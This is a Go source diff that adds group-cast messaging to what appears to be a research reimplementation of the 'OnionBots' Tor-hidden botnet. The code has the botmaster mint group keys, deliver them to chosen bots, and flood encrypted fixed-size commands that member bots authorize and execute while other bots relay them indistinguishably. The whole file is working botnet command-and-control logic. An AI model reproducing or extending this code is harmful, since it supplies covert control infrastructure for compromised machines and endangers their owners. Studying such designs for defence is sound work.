@@ -1,0 +1,107 @@
+package core
+
+import (
+	"fmt"
+
+	"onionbots/internal/botcrypto"
+)
+
+// Section IV-D: "the botmaster can setup group keys to send encrypted
+// messages for a group of bots." A group-cast travels exactly like a
+// broadcast — flooded, sealed, fixed-size — but its payload is sealed
+// again under a group key, so only members can open (and execute) it.
+// Non-members relay blindly; on the wire nothing distinguishes a
+// group-cast for group A from one for group B or from any directed
+// message.
+
+// GroupSealSize is the inner seal size of a group-cast payload; like
+// DirectedSealSize it leaves room for the envelope.
+const GroupSealSize = 400
+
+// CreateGroup mints a group key, registers it with the botmaster, and
+// delivers it to each member bot via a directed "join-group"
+// maintenance command (sealed to the member's K_B).
+func (m *Botmaster) CreateGroup(name string, members []*BotRecord) error {
+	key := m.drbg.Bytes(32)
+	m.groups.Add(name, key)
+	payload := make([]byte, 0, len(name)+1+len(key))
+	payload = append(payload, name...)
+	payload = append(payload, 0)
+	payload = append(payload, key...)
+	for _, rec := range members {
+		cmd := m.NewCommand("join-group", payload)
+		if err := m.Reach(rec, cmd); err != nil {
+			return fmt.Errorf("core: group %q: deliver key to %s: %w", name, rec.ID(), err)
+		}
+	}
+	return nil
+}
+
+// GroupCast floods a command that only the named group's members can
+// open, entering the network through the given bots.
+func (m *Botmaster) GroupCast(group string, viaOnions []string, cmd *Command, ttl uint8) error {
+	inner, err := m.groups.SealForSized(group, cmd.Encode(), GroupSealSize, m.drbg)
+	if err != nil {
+		return err
+	}
+	var env Envelope
+	env.Type = MsgGroupcast
+	copy(env.MsgID[:], m.drbg.Bytes(16))
+	env.TTL = ttl
+	env.Payload = inner
+	delivered := 0
+	for _, onion := range viaOnions {
+		conn, err := m.proxy.Dial(onion)
+		if err != nil {
+			continue
+		}
+		sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+		if err != nil {
+			return err
+		}
+		if conn.Send(sealed) == nil {
+			delivered++
+		}
+	}
+	if delivered == 0 {
+		return fmt.Errorf("core: group-cast reached no entry bot")
+	}
+	return nil
+}
+
+// handleGroupcast tries the bot's group keyring; members execute,
+// everyone relays.
+func (b *Bot) handleGroupcast(env *Envelope) {
+	if _, dup := b.seen[env.MsgID]; dup {
+		return
+	}
+	b.markSeen(env.MsgID)
+	if inner, _, err := b.groups.TryOpenSized(env.Payload, GroupSealSize); err == nil {
+		if cmd, derr := DecodeCommand(inner); derr == nil {
+			if cmd.Authorize(b.masterSignPub, b.net.Now(), b.guard) == nil {
+				b.execute(cmd)
+			}
+		}
+	}
+	if env.TTL > 0 {
+		b.relay(&Envelope{Type: MsgGroupcast, MsgID: env.MsgID, TTL: env.TTL - 1, Payload: env.Payload})
+	}
+}
+
+// joinGroup installs a group key delivered by a "join-group"
+// maintenance command. Payload: name || 0x00 || key.
+func (b *Bot) joinGroup(payload []byte) {
+	for i, c := range payload {
+		if c == 0 {
+			name := string(payload[:i])
+			key := payload[i+1:]
+			if name != "" && len(key) == 32 {
+				b.groups.Add(name, key)
+			}
+			return
+		}
+	}
+}
+
+// Groups lists the group names this bot belongs to.
+func (b *Bot) Groups() []string { return b.groups.Groups() }
